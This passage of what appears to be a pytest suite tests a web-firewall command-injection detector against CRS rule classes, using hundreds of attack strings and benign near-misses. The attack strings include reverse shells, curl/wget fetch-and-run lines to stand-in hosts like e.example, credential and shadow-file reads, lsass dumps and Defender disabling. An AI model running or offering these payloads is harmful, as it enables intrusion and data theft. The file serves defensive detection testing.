        b"<r><h><![CDATA[127.0.0.1; uname -a]]></h></r>"),
    req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")],
        (f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg;curl evil.example|sh\"\r\n"
         f"Content-Type: image/jpeg\r\n\r\nxx\r\n--{_BOUNDARY}--\r\n").encode()),
    req("/download/x.pdf%3Bwget%20http%3A%2F%2Fe.example%2Fx%20-O%20%2Ftmp%2Fx"),  # URL path segment
    req("/", headers=[("X-Forwarded-For", "127.0.0.1;$(curl e.example)")]),
    req("/api", "POST", [("Content-Type", "application/json")], b'{"a":[{"b":{"c":"x\\u003b id"}}]}'),
    req("/api", "POST", [("Content-Type", "application/json")], b'{"cmd":"\\u0060id\\u0060"}'),
    req("/?q=%26%2396%3Bid%26%2396%3B"),                                         # backticks as entities
    req("/?q=%EF%BC%9Bid"),                                                      # fullwidth semicolon (NFKC)
    req("/?q=127.0.0.1%0Als%09-la"),                                             # newline and tab
    req("/?file=x%27%3Bid%3B%27"),                                               # closing the app's quote
]


@pytest.mark.parametrize("r", RAW_ATTACKS, ids=lambda r: r.target[:50])
def test_encoded_and_raw_carriers(engine, r):
    hits = engine.inspect(r)
    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("value,want", [
    (";c${u}at /etc/passwd", ";cat /etc/passwd"),          # unset braced variable inside a word
    (";ca$@t x", ";cat x"),                                  # positional parameter inside a word
    (";a=c;b=at;$a$b /x", ";a=c;b=at;$a$b /x"),              # variables after variables are kept for substitution
])
def test_normalize_removes_empty_expansions(value, want):
    assert rce.normalize(value) == want


def test_words_reads_comments_calls_and_fences():
    assert [w for _, w in rce.words("x; sleep 5 # trailing note")] == ["x", "sleep", "5"]
    assert rce.words("init(); run") == [("^", "init("), (";", "run")]  # a name touching `(` is a call, not a command
    assert rce.analyze("```python\nprint(os.getcwd())\n```") is None
    assert rce._known_command("/b?n/?s") == "ls" and rce._known_command("*/*") is None


@pytest.mark.parametrize("value", ["a' ; id ; '", "'||whoami||'", "x' && cat /etc/passwd && '"])
def test_value_closing_the_applications_quote(value):
    f = rce.analyze(value)
    assert f is not None and f.score >= THRESHOLD, f


@pytest.mark.parametrize("value", ["It's 5 o'clock; time for tea", "Rock 'n' Roll | Jazz", "O'Brien & Sons; est. 1921"])
def test_apostrophes_in_prose_are_not_quote_breakouts(value):
    f = rce.analyze(value)
    assert f is None or f.score < THRESHOLD, f


def test_sets_are_large_and_distinct():
    assert len({v for _, v in ATTACKS}) >= 150
    assert len({v for _, v in BENIGN}) >= 100


# --- Round 2 (issue #4): one group per attack class of CRS 932xxx (3.3.4 at PL1/PL2 plus the v4 ids), payloads written
# for this round in varied carriers, never copied from a rule's regression tests. First pass (before the round-2
# changes to rce.py) the current code caught 75 of the first 86 of these; see the round-2 report for the class table.
CLASS_ATTACKS: dict[str, list[tuple[str, str]]] = {
    "932100/932105/932220/932235/932236 unix command after a separator": [
        ("query", "10.1.1.1 ; getent passwd"), ("form", "a.txt && awk -F: '{print $1}' /etc/passwd"),
        ("json", "eth0 | lsof -i -P -n"), ("cookie", "en;df -h"), ("xml", "host.local || ip addr show"),
        ("custom", "a.png && du -ah /root"), ("multipart", "x; lsblk -f"),
    ],
    "932230/932250 two- and three-letter commands": [
        ("query", "1.2.3.4;ps -ef"), ("form", "x|du -sh /var"), ("json", "x&&ip a"), ("custom", "x;pwd;ls"),
        ("cookie", "x || w"), ("xml", "x; id -Gn"),
    ],
    "932150/932260 a command as the whole value": [
        ("form", "wget http://203.0.113.5/k -O /tmp/k"), ("json", "nc 198.51.100.3 9001 -e /bin/bash"),
        ("query", "sh -c 'curl e.example|sh'"), ("xml", "uname -a"), ("cookie", "cat /proc/self/environ"),
    ],
    "932160/932161 unix shell code and program paths": [
        ("query", "/usr/bin/env python3 -c 'import os;os.system(\"id\")'"), ("form", "x;/sbin/ifconfig -a"),
        ("custom", "/bin/busybox telnetd -l /bin/sh -p 9999"), ("json", "exec /bin/rbash"),
    ],
    "932110/932115/932370/932380 windows commands": [
        ("query", "a & whoami /all"), ("form", "x | wmic useraccount get name,sid"), ("json", "x && net1 user"),
        ("cookie", "x&arp -a"), ("xml", "report.xlsx & tree c:\\ /f"), ("custom", "x | qwinsta"),
        ("query", "x & sc query state= all"), ("form", "1|nltest /dclist:corp"),
        ("json", "a & certreq -Post -config http://e.example/ c:\\windows\\win.ini"),
        ("form", "x & esentutl.exe /y \\\\10.0.0.1\\s\\a.exe /d a.exe /o"), ("query", "x | cmdkey /list"),
        ("cookie", "x & klist tickets"), ("xml", "x & gpresult /z"), ("custom", "x && driverquery /v"),
        ("multipart", "x & msdt.exe /id PCWDiagnostic /skip force /param \"IT_BrowseForFile=x\""),
    ],
    "932120/932125 powershell cmdlets and aliases": [
        ("query", "x; Get-LocalUser | Select-Object Name"),
        ("form", "a | Select-String -Path C:\\inetpub\\*.config -Pattern pass"),
        ("json", "x; gci -Recurse C:\\Users -Include *.kdbx"),
        ("cookie", "x;Invoke-WebRequest -Uri http://e.example/a -OutFile a.exe"),
        ("query", "x;powershell -c \"& (gcm i*x) 'whoami'\""), ("xml", "x | sal y iex; y 'hostname'"),
        ("custom", "x; Start-Process cmd -ArgumentList '/c whoami'"), ("form", "x; get-process lsass"),
        ("json", "a | Set-MpPreference -DisableRealtimeMonitoring $true"), ("query", "x;Get-ChildItem Env:"),
        ("multipart", "x; New-Alias -Name z -Value Invoke-Expression; z 'id'"), ("cookie", "x|Stop-Service WinDefend"),
        ("xml", "x; Get-CimInstance Win32_Process"), ("form", "Get-WmiObject -Class Win32_UserAccount"),
    ],
    "932130/932131 shell expressions": [
        ("query", "name=$(id -un)"), ("form", "$((1337*7))"), ("json", "x${IFS}-la"), ("cookie", "diff <(ls /) <(ls /tmp)"),
        ("xml", "x >(sh)"), ("custom", "${PATH%%:*}/sh -c id"), ("query", ";${x:-cat} /etc/passwd"),
        ("form", ";${u:=id}"),
    ],
    "932140 windows FOR/IF": [
        ("query", "for /l %x in (1,1,5) do ping -n 1 10.0.0.%x"),
        ("form", "if exist c:\\windows\\win.ini type c:\\windows\\win.ini"),
        ("json", "for /r c:\\ %f in (*.config) do type %f"), ("cookie", "if defined USERNAME echo %USERNAME%"),
    ],
    "932170/932171 shellshock": [
        ("ua", "() { foo;}; echo; /usr/bin/id"), ("custom", "() { :;}; /bin/sleep 20"), ("query", "() { x;}; curl e.example|sh"),
        ("cookie", "() {  :; } ; bash -i >& /dev/tcp/10.0.0.1/80 0>&1"),
    ],
    "932175 alias invocation": [
        ("query", ";alias l=id;l"), ("form", "x; alias ll='cat /etc/passwd'; ll"), ("json", "|alias -p"),
    ],
    "932200/932205/932206/932207/932240 quoting and globbing evasions": [
        ("query", ";w\"h\"o\"a\"m\"i"), ("form", ";un'a'me -a"), ("json", ";/b\\in/ca\\t /et\\c/pass\\wd"),
        ("cookie", ";$u/bin$u/id"), ("xml", ";/us?/b??/i?"), ("custom", ";c''a''t /e''tc/pa''sswd"), ("ua", "x;who\\am\\i"),
        ("query", ";c``at /etc/passwd"), ("form", ";un``ame -a"),
    ],
    "932210 sqlite dot commands": [
        ("query", "x;\n.shell id"), ("form", "a';.system whoami;--"), ("json", ".shell cat /etc/passwd"),
    ],
    "932237/932239 unix commands in User-Agent and Referer": [
        ("ua", "Mozilla/5.0 ;wget http://e.example/a -O /tmp/a;"), ("referer", "http://x.example/`id`"),
        ("ua", "curl/7.88 && cat /etc/shadow"),
    ],
    "932270/932271 tilde expansion": [
        ("query", "~+"), ("form", "~-"), ("json", ";cd ~-;ls"), ("cookie", ";ls ~+"), ("xml", "~0"),
    ],
    "932280/932281 brace expansion": [
        ("query", "{,ip,a}"), ("form", ";{uname,-a}"), ("json", "{wget,-qO-,e.example/x}|sh"), ("xml", "x|{id,}"),
    ],
    "932330/932331 shell history": [("query", "!-1"), ("form", ";!!"), ("json", "x;!-2;")],
    "932371 at scheduler": [("query", ";at 2:00 \"rm -rf /var/www\""), ("form", "\nat now + 1 minute -f /tmp/x.sh")],
}
# Classes of the 932 file that another detector owns (mail_injection: 932300-932321; upload: 932180); asserted here
# only as an attack verdict. Gap left to its owner: a bare POP3 `LIST`/`STAT` after CRLF is not flagged.
OTHER_CLASS_ATTACKS: list[tuple[str, str]] = [
    ("form", "bob@example.com\r\nRCPT TO:<victim@example.org>"), ("query", "x\r\nMAIL FROM:<a@e.example>\r\nDATA"),
    ("json", "subject\r\nEHLO evil.example\r\n"), ("query", "INBOX\r\na1 LOGOUT"), ("form", "x\r\nA002 FETCH 1:* (BODY[])"),
    ("json", "Sent\r\nx3 DELETE INBOX"), ("query", "x\r\nRETR 1"), ("form", "user\r\nDELE 3"),
    ("upload", ".htaccess"), ("upload", "web.config"), ("upload", ".user.ini"),
]
CLASS_ROWS = [row for rows in CLASS_ATTACKS.values() for row in rows]

# Benign near-misses of the round-2 rules, and the false positives other helpers found in rce.py (fixed this round).
CLASS_BENIGN: list[tuple[str, str]] = [
    # PowerShell's Verb-Noun shape in English compounds, PowerShell aliases and LOLBAS names as words
    ("form", "get-together | potluck"), ("query", "Home | Add-Ons | Help"), ("query", "Sign-In | Register"),
    ("form", "check-in; check-out"), ("form", "Set-up guide; FAQ"), ("query", "x | Get-Started"),
    ("form", "pop-up shop; start-up fair"), ("query", "Write-Off | Tax"), ("form", "Get-Well cards & gifts"),
    ("form", "lock-in rate; no fees"), ("query", "how to use Get-ChildItem"), ("query", "Select-Object examples"),
    ("form", "Sal; Tony; Maria"), ("query", "sal mineo movies"), ("query", "GCI Alaska; internet plans"),
    ("form", "Christmas tree | ornaments"), ("form", "family tree; ancestry"), ("query", "hh:mm:ss format"),
    ("query", "Replace all; Undo"), ("form", "Expand | Collapse"),
    # sub-command words, abbreviations and schedules
    ("query", "my ip; ip address lookup"), ("query", "intellectual property; ip rights"), ("form", "SC Johnson; SC Freiburg"),
    ("query", "Columbia, SC | Charleston, SC"), ("form", "Mexico City | DF"), ("form", "du pain; du vin"),
    ("form", "Lunch; at noon"), ("form", "meet at 5pm; at 6pm"), ("form", "arrive; at 10:30 we leave"),
    ("form", "Top Chef; chef knife set"), ("form", "head chef; sous chef"), ("query", "chef de partie"),
    ("form", "fish & chips; salt & vinegar"), ("query", "AA batteries; AAA"), ("query", "Helm & rudder; knife & fork"),
    ("query", "vault door; safe"),
    # tilde approximations, default-value placeholders, plain code
    ("form", "~5"), ("form", "~10"), ("query", "~2 hours"), ("json", "~100"),
    ("form", "Use ${PORT:-8080} in docker compose"), ("form", "image: nginx:${NGINX_VERSION:-latest}"),
    ("json", "${DB_HOST:-localhost}:5432"), ("form", "${REDIS_URL:=redis://cache:6379}"),
    ("query", "<T>(x: T) => x"), ("query", "const id = <T,>(a: T) => a"), ("form", "`code` and ``more code``"),
    ("form", "Use ``foo`bar`` for a literal backtick"),
    ("form", "I'd say -alert- is overused"), ("form", "it's \"alert\" status; confirm (yes) to proceed"),
    ("form", "We'd ps: see attached"), ("form", "she'd cut -- no, trim -- the hedge"),
    ("query", "php file_get_contents timeout"), ("query", "python __init__ method"), ("query", "node child_process tutorial"),
    ("query", "ruby attr_accessor example"), ("query", "php str_replace array"),
    ("form", "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" alt=\"dot\">"),
    ("query", "url(data:image/png;base64,abc)"), ("form", "background: url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) no-repeat"),
    ("form", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' width=1>"),
]


def _carry2(kind: str, v: str):
    if kind == "upload":
        body = (f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{v}\"\r\n"
                f"Content-Type: text/plain\r\n\r\nxx\r\n--{_BOUNDARY}--\r\n").encode()
        return req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")], body)
    return carry(kind, v)


@pytest.mark.parametrize("row", OTHER_CLASS_ATTACKS, ids=_label)
def test_crs_class_owned_elsewhere_is_an_attack(engine, row):
    assert verdict(engine.inspect(_carry2(*row))) == "attack"


@pytest.mark.parametrize("value,clean", [("~0", False), ("~+", False), ("~-", False), ("~5", True), ("~1", True),
                                         ("~42", True)])
def test_tilde_forms_that_expand_in_a_fresh_shell(value, clean):
    # ~0, ~+, ~- expand in every shell; ~N (N >= 1) needs a directory stack a fresh shell does not have
    f = rce.analyze(value)
    assert (f is None or f.score < THRESHOLD) == clean, f


def test_round2_sets_are_distinct():
    assert len(set(CLASS_ROWS)) == len(CLASS_ROWS) >= 90
    assert len(set(CLASS_BENIGN)) == len(CLASS_BENIGN) >= 60
    assert not set(CLASS_BENIGN) & set(BENIGN)


# Round 2, second batch: programs from GTFOBins and LOLBAS that the lists did not know yet, written after the class
# fixes above and measured once before the vocabulary change: 21 of these 47 were caught, 0 of the 30 benign flagged.
GTFO_LOLBAS_ATTACKS: list[tuple[str, str]] = [
    ('form', ';busctl --user set-property a b c d'), ('json', 'a && dmidecode -t system'),
    ('cookie', 'x;exiftool -a /etc/passwd'), ('xml', 'x | cpan -e \'system("id")\''),
    ('custom', "x; debugfs -R 'cat /etc/shadow' /dev/sda1"), ('multipart', 'x; ldconfig -p'),
    ('query', ";screen -dmS x bash -c 'id>/tmp/o'"), ('form', 'x && script -q -c id /dev/null'),
    ('json', "x; julia -e 'run(`id`)'"), ('cookie', 'x;ghc -e \'System.Process.callCommand "id"\''),
    ('xml', "x; vi -c ':!id' -c ':q'"), ('custom', 'x| pandoc -o /tmp/x /etc/passwd'),
    ('query', 'x; shuf -z -o /etc/cron.d/x /tmp/x'), ('form', 'x; snap install evil.snap --dangerous --devmode'),
    ('json', 'x; timedatectl list-timezones'), ('cookie', 'x; valgrind /bin/sh'), ('xml', ';virsh list --all'),
    ('query', ';ssh-keyscan 10.0.0.5'), ('form', "x; man -P 'sh -c id' man"),
    ('json', 'x; update-alternatives --list java'), ('custom', 'x; restic backup /etc'),
    ('multipart', 'x && torify curl http://e.onion/x'), ('query', '|neofetch'), ('form', 'x;rlogin 10.0.0.5 -l root'),
    ('json', ';xdotool type id'), ('cookie', 'x; ksu -e /bin/sh'), ('xml', '; yash -c id'),
    ('query', 'x; pdflatex --shell-escape x.tex'), ('form', 'x; loginctl list-sessions'),
    ('json', 'x; systemd-resolve --status'), ('query', ';lwp-download http://e.example/x /tmp/x'),
    ('form', 'x; fping -g 10.0.0.0/24'), ('json', 'x;socat -u tcp-listen:4444 file:/etc/passwd'),
    ('cookie', 'x;openssl enc -d -base64 -in /tmp/x -out /tmp/y'),
    ('xml', 'x; mosquitto_pub -h e.example -t t -f /etc/passwd'),
    ('query', 'x & extrac32 /Y /C \\\\10.0.0.1\\s\\a.exe c:\\a.exe'), ('form', 'x & makecab c:\\a.txt c:\\a.cab'),
    ('json', 'x & ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q'),
    ('cookie', 'x & wbadmin delete catalog -quiet'), ('xml', 'x | auditpol /get /category:*'),
    ('custom', 'x & nbtstat -A 10.0.0.5'), ('query', 'x & getmac /v'), ('form', 'x & openfiles /query'),
    ('json', 'x & secedit /export /cfg c:\\x.inf'), ('cookie', 'x & powercfg /list'),
    ('xml', 'x && psexec \\\\10.0.0.5 -s cmd'), ('custom', 'x & procdump -ma lsass.exe l.dmp'),
]
# Same words as English (`screen protector`, `man of steel`, `Scarlett Jo`), 2-letter abbreviations and markup.
GTFO_LOLBAS_BENIGN: list[tuple[str, str]] = [
    ('query', 'git gud'), ('form', 'Scarlett Johansson; Scarlett Jo'), ('query', 'screen protector | iphone 15'),
    ('form', 'movie script; storyboard'), ('query', 'man of steel'), ('form', 'Man | Woman | Kids'),
    ('query', 'snap fasteners; buttons'), ('form', 'task list; to-do'), ('query', 'view cart | checkout'),
    ('form', 'fish tacos | shrimp'), ('query', 'red dress; blue shoes'), ('form', 'look book | spring'),
    ('query', 'julia roberts movies'), ('form', 'tic tac toe | games'), ('query', 'tex mex near me'),
    ('form', 'pg 13 movies; rated R'), ('query', 'hd tv | 4k tv'), ('form', 'eb games; gamestop'),
    ('query', 'latex gloves; nitrile'), ('form', 'socket wrench set | 3/8'), ('query', 'dialog box | modal'),
    ('form', 'highlight reel; top plays'), ('query', 'cancel order | refund'), ('form', 'crash course; biology'),
    ('query', 'date night | dinner'), ('form', 'pic of the day; photo'), ('query', 'vi editor tutorial'),
    ('form', "joe's pizza; joe's deli"), ('query', 'sash window repair'), ('query', 'posh spice | spice girls'),
    ("form", "<ul><li>Fast shipping</li><li>Free returns</li></ul>"), ("form", "<p>&copy; 2024 Example Ltd.</p>"),
    ("query", "{red,green,blue}"), ("query", "git log --oneline"), ("form", "|PG| Summer Sale"),
    ("form", "<dialog open>Saved!</dialog>"), ("form", "VI. Conclusion; VII. References"),
]


# Round 2, third batch: shapes of public PoCs (IoT loaders, argument injection into a wrapped program, options that run
# commands, newline-only injection, Windows one-liners). Measured once before the fixes: 24 of 30 caught, and 1 of 22
# benign flagged (`Shopping list:\ncurl cream\nwget? …`, a newline-separated list whose item is a tool name: left as is,
# the shape of newline injection).
POC_ATTACKS: list[tuple[str, str]] = [
    ('form', '`cd /tmp; wget http://198.51.100.2/m.sh; chmod 777 m.sh; sh m.sh`'),
    ('query', '$(wget${IFS}http://198.51.100.2/bins/x.arm7${IFS}-O${IFS}/var/tmp/x;chmod${IFS}+x${IFS}/var/tmp/x;/var/tmp/x)'),
    ('form', '0.0.0.0;cd /var/tmp;tftp -g -r mips 198.51.100.2;chmod 777 mips;./mips'),
    ('json', '&&busybox wget http://198.51.100.2/i -O- >/tmp/i;sh /tmp/i'),
    ('xml', '`/bin/busybox wget -g 198.51.100.2 -l /tmp/b -r /b`'),
    ('query', '1.1.1.1%26%26curl%20-s%20http://198.51.100.2/a.sh%7Csh'), ('json', '-c id'),
    ('form', '--output=/var/www/html/s.php'), ('query', '-oProxyCommand=curl e.example|sh'),
    ('form', 'x --checkpoint=1 --checkpoint-action=exec=sh /tmp/x'), ('json', '-e \'system("id")\''),
    ('query', '--use-compress-program=sh -c id'), ('form', '-exec sh -c id ;'),
    ('query', ";ssh -o ProxyCommand='nc e.example 22' x"), ('form', "x; git -c core.sshCommand='sh -c id' fetch"),
    ('json', "x; rsync -e 'sh -c id' a:b c"), ('cookie', "x;tar -xf a.tar --to-command='sh -c id'"),
    ('form', 'report\ncurl http://e.example/$(whoami)'), ('json', 'a.pdf\r\nwget -qO- e.example/x|sh'),
    ('xml_attr', 'x\nping -c 3 e.example'), ('multipart', 'x\n/usr/bin/id\n'),
    ('query', 'x" & powershell -nop -c "iwr e.example/a.ps1|iex" & "'), ('form', "x' | cmd /c 'whoami"),
    ('json', 'x & start /b cmd /c "certutil -urlcache -f http://e.example/a a.exe"'),
    ('cookie', 'x & rundll32 \\\\10.0.0.1\\s\\a.dll,Entry'), ('custom', 'x | powershell -EncodedCommand aQBkAA=='),
    ('query', 'x & regsvr32 /u /n /s /i:http://e.example/a.sct scrobj.dll'), ('query', 'user-$(id -u)@e.example'),
    ('form', 'name=`uname`'), ('json', '{"a":"$(cat /etc/hostname)"}'),
]
POC_BENIGN: list[tuple[str, str]] = [
    ('form', '-c is the compile flag'), ('query', '--output flag meaning'), ('json', '-e'), ('form', '-exec'),
    ('query', 'ProxyCommand example ssh config'), ('form', 'git config core.pager less'),
    ('form', 'line one\nline two\nline three'), ('json', 'Dear team,\r\nplease ping me at 3pm.\r\nThanks'),
    ('query', '--verbose'), ('form', '-- the end --'), ('query', 'price -10% off'), ('form', 'a - b - c'),
    ('form', 'x -y plot'), ('query', 'cmd + c to copy'), ('form', 'start /b explained'),
    ('query', 'user-123@example.com'), ('form', 'name=John'), ('json', '{"a":"b"}'),
    ('form', 'Call me: +1 555 0100 -- ext 7'), ('form', 'Step 1\nping the server\nStep 2\nreboot the router'),
    ("form", "-c copy the text"), ("query", "-o output.txt"), ("form", "--color=auto"), ("json", "-c 5"),
]


# Round 3 (issue #4): CRS 4.25's 932 file as the checklist — the commands unix-shell.data (718 entries) and the
# Windows lists of 932370/932380 (LOLBAS and Windows Server commands) added since 3.3.4, the cmdlet nouns of
# windows-powershell-commands.data, the aliases of 932125, the shell builtins of unix-shell-builtins.data, and new
# variants of the older classes. Payloads written for this round; see the round-3 report for the first pass.
ROUND3_CLASSES: dict[str, list[tuple[str, str]]] = {
    "932235/932260 unix-shell.data commands new in CRS 4": [
        ("query", "x; mysqldump -u root --all-databases > /var/www/html/d.sql"),
        ("form", "a.jpg && setcap cap_setuid+ep /usr/bin/python3"), ("json", ";getcap -r / 2>/dev/null"),
        ("cookie", "x|blkid"), ("xml", "x; losetup -a"), ("custom", "x && lsb_release -a"), ("multipart", "x;lshw -short"),
        ("query", "x;hostid"), ("form", "x`logname`"), ("json", "x; sudoedit /etc/sudoers"),
        ("cookie", "x; setsid sh -c 'id>/tmp/o'"), ("xml", "x; htpasswd -b /etc/apache2/.htpasswd eve s3cret"),
        ("custom", "x | zipinfo /tmp/a.zip"), ("query", "x;svnadmin dump /srv/svn/repo"),
        ("form", "x; svn export http://198.51.100.2/r /tmp/r"), ("json", "x && rbash -c id"),
        ("cookie", "x; xterm -display 198.51.100.2:1"), ("xml", "&& nping --tcp -p 445 10.0.0.5"),
        ("custom", "x; dhclient -r eth0"), ("query", "x;mysqladmin -u root shutdown"),
        ("form", "x; xzgrep root /var/log/auth.log.xz"), ("json", "x | pigz -dc /tmp/a.gz | sh"),
        ("cookie", "x;rustup run stable sh"), ("xml", "x; chsh -s /bin/bash www-data"),
        ("query", "x; groupmod -n wheel2 wheel"), ("form", "x;tailf /var/log/syslog"), ("json", "x; runc exec -t c1 sh"),
        ("multipart", "x; sudoreplay -l"), ("ua", "Mozilla/5.0;mysqlshow -u root"),
        ("referer", "http://e.example/?q=x;htdigest -c /tmp/h r u"),
    ],
    "932160 unix-shell.data variables": [
        ("query", "x;echo $SHELL"), ("form", "cd ${HOME}; ls -la"), ("cookie", "x;${SHELL} -i"),
        ("xml", "$OLDPWD/../../bin/sh"), ("json", "x; $SHELL -c id"),
    ],
    "932120 windows-powershell-commands.data cmdlets": [
        ("query", "x; get-credential"), ("form", "x; stop-computer"), ("json", "x | export-csv c:\\users\\public\\p.csv"),
        ("cookie", "x; clear-recyclebin"), ("xml", "x;restart-computer"),
        ("custom", "x; invoke-wmimethod win32_process create calc.exe"), ("multipart", "x; enter-pssession dc01"),
        ("query", "x; get-netadapter"), ("form", "x; get-acl c:\\ | sort-object owner"),
        ("json", "x;remove-itemproperty hklm:\\software\\x y"), ("cookie", "x; add-localgroupmember administrators eve"),
        ("xml", "x; get-hotfix"), ("query", "x; compress-archive c:\\users\\bob\\documents c:\\temp\\d.zip"),
        ("json", "$(get-clipboard)"),
    ],
    "932125 powershell aliases": [
        ("query", "x; gc c:\\windows\\win.ini"), ("json", "x;ni c:\\temp\\a.ps1 -value x"), ("xml", "x; gwmi win32_share"), ("custom", "x & ii c:\\windows\\system32\\calc.exe"),
        ("multipart", "x; epcsv c:\\temp\\p.csv"), ("query", "x;rni c:\\inetpub\\wwwroot\\web.config web.bak"),
        ("json", "x; rwmi win32_process"), ("cookie", "x;gdr -psprovider filesystem"),
    ],
    "932370/932380 windows commands new in CRS 4": [
        ("query", "x & diskshadow /s c:\\temp\\s.txt"), ("form", "x & pnputil /enum-drivers"),
        ("json", "x | mklink /d c:\\temp\\l \\\\10.0.0.1\\s"), ("cookie", "x & chkdsk c: /f"),
        ("xml", "x && winrm quickconfig -q"),
        ("custom", "x & mpcmdrun -downloadfile -url http://198.51.100.2/a.exe -path c:\\temp"),
        ("multipart", "x & wsl -e id"), ("query", "x & doskey ls=dir"), ("form", "x & bginfo.exe bg.bgi /popup /nolicprompt"),
        ("cookie", "x|repadmin /showrepl"), ("xml", "x & sfc /scannow"), ("custom", "x & logman query"),
        ("query", "x & winget install --id x.y --silent"), ("form", "x & gpupdate /force"), ("json", "x & ftype htafile"),
        ("cookie", "x & tzutil /g"), ("xml", "x && msxsl.exe c.xml c.xsl"),
        ("custom", "x & createdump -f c:\\temp\\d.dmp 672"), ("multipart", "x & dnscmd /zoneexport corp.local z.txt"),
    ],
    "932230/932231 unix-shell-builtins.data": [
        ("query", "x;zmodload zsh/system"), ("form", "x; coproc nc 10.0.0.5 4444"), ("json", "x;setenv PATH /tmp:$PATH"),
        ("cookie", "x; function f { id; }; f"), ("xml", "x; repeat 3 id"), ("custom", "x; command -v python3"),
    ],
    "932390/932140/932175/932330/932280 older classes, new variants": [
        ("query", "b(){ b|b& };b"), ("form", "x; f(){ f|f & }; f"),
        ("json", "for /f \"delims=\" %a in ('whoami') do curl http://e.example/%a"),
        ("cookie", "if not exist c:\\temp\\a.exe certutil -urlcache -f http://e.example/a c:\\temp\\a.exe"),
        ("xml", ";alias -- ls='rm -rf ~'"), ("custom", "x; alias cd='sh'"), ("query", "x && !-3"),
        ("form", "{cat,/etc/hostname}"), ("json", "x;{curl,-s,e.example/a}|sh"), ("xml", "x;l=id;$l"),
    ],
    "932236/932161 more CRS 4 names in other carriers (second batch)": [
        ("path", "x;zipgrep -i pass /tmp/a.zip"), ("query2", "x|mysqldumpslow -s t"), ("json_u", "x && svnlook cat /srv/r x"),
        ("b64json", "x; netplan apply"), ("ua", "() { :;}; /usr/bin/pigz -d /tmp/x"), ("header", "x;perl5 -e 'exec \"sh\"'"),
        ("xml_attr", "x\nsetsid -f sh -i"), ("form", "x & appinstaller.exe ms-appinstaller:?source=http://e.example/a"),
        ("query", "x & conhost.exe --headless calc"), ("json", "x | wecutil es"), ("cookie", "x & ktpass /out c:\\t\\k.keytab"),
        ("custom", "x; Get-ScheduledJob | Unregister-ScheduledJob"),
    ],
}
ROUND3_ATTACKS = [row for rows in ROUND3_CLASSES.values() for row in rows]
# The same words as English, abbreviations, product names, and searches about the tools.
ROUND3_BENIGN: list[tuple[str, str]] = [
    ("form", "Bluetooth; GPS; WiFi"), ("query", "GPS | Maps"), ("form", "gc: 12; hp: 40"), ("query", "GBP | EUR | USD"),
    ("form", "CPI; inflation; rates"), ("query", "C++ | cpp | rust"), ("form", "GMO free; organic"),
    ("query", "Excel; Word; PowerPoint"), ("form", "print | share | save"), ("query", "remote; hybrid; on-site"),
    ("form", "update; upgrade"), ("query", "SVN vs git"), ("query", "mysqldump tutorial"), ("query", "htpasswd generator"),
    ("form", "xterm colors"), ("query", "wireshark download"), ("query", "chkdsk command"), ("form", "sfc scannow meaning"),
    ("query", "winget vs chocolatey"), ("form", "WSL; Docker; VS Code"), ("query", "wsl install ubuntu"),
    ("form", "java; python; go"), ("form", "Skills: Java, Python, Go"), ("query", "ready; set; go"), ("form", "la la land"),
    ("query", "Los Angeles, LA | San Diego"), ("form", "hash browns; eggs"), ("query", "function of the liver"),
    ("form", "Alpine skiing; snowboarding"), ("query", "command center | ops"), ("form", "red; green; blue"),
    ("query", "rename file"), ("form", "arch linux | manjaro"), ("query", "repeat order | reorder"),
    ("form", "Get-Credential docs"), ("query", "stop computer from sleeping"), ("form", "Enter-PSSession example"),
    ("query", "sort-object by date"), ("form", "Export-Csv append"), ("query", "test-netconnection port"),
    ("form", "x-large; xx-large"), ("query", "mmc snap-in"), ("form", "sales tax; gst"), ("query", "setenv vs export"),
    ("query", "dhclient release"), ("form", "lshw output explained"), ("query", "mklink vs junction"),
    ("form", "Print; Scan; Fax"), ("query", "ogv to mp4"), ("form", "GI Joe; GL Class"), ("query", "ni no kuni"),
    ("form", "Gal Gadot; Wonder Woman"), ("query", "ft lauderdale | miami"), ("form", "FL; GA; SC"),
    ("query", "cls aston martin"), ("form", "rp; hp; mp"), ("query", "chcp 65001 meaning"),
    ("form", "logoff screen; lock screen"), ("query", "perfmon counters"), ("form", "mstsc fullscreen"),
    ("form", "Pigz is faster than gzip"), ("query", "rustup update"), ("form", "Sort: price | rating"),
    ("form", "Shell; BP; Exxon"), ("query", "home; shell; path"), ("form", "Repeat customer? yes | no"),
    ("form", "builtin oven; dishwasher"), ("query", "wt: 5 kg | ht: 180 cm"), ("form", "San Jose | San Mateo"),
    ("query", "CSC; CSI Miami"), ("form", "PSR J0437-4715"), ("query", "gpt-4 vs claude"),
    ("form", "ii. Methods; iii. Results"), ("query", "Regini Sheffield"), ("form", "desk lamp | chair"),
    ("json", "Let me check with the team; hostid is on the invoice"), ("form", "Rename; Delete; Share"),
    ("query", "Starters; Mains; Desserts"), ("form", "Ruby; Perl; Rust; Haskell"), ("query", "Rust | Go | Zig"), ("form", "PHP, Node, and Raku"), ("form", "git svn clone"), ("query", "get-hotfix remote computer"),
]


def test_round3_sets_are_distinct():
    assert len(set(ROUND3_ATTACKS)) == len(ROUND3_ATTACKS) >= 100
    assert len(set(ROUND3_BENIGN)) == len(ROUND3_BENIGN) >= 80
    assert not set(ROUND3_BENIGN) & set(BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN)


# Round 4 (issue #4, the rce false positives of wild_benign's LATE_BATCH_2): three shapes of benign text that read like
# a command line to a tokenizer — a sentence or trouble report that begins with a tool's name, a Markdown document
# (headings, lists, `|---|` tables) around code spans, a `|`-joined list of recent searches — each beside attacks of the
# same shape. Written before the round-4 changes to rce.py; the code of that moment caught 49/49 and flagged 19/45.
ROUND4_ATTACKS: list[tuple[str, str]] = [
    # a tool's name followed by words: a sentence or a trouble report about it, unless options, paths or separators
    ("query", "mysqldump -u root -psecret shop customers"), ("form", "mysqldump shop users > /var/www/html/u.txt"),
